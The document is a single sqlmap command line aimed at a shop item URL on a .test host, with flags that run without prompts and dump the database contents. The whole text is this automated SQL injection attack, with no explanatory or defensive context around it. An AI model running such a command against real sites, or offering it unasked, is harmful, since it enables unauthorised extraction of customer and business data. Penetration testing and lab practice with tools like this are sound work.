sqlmap -u "http://shop.test/item?id=1" --batch --dump
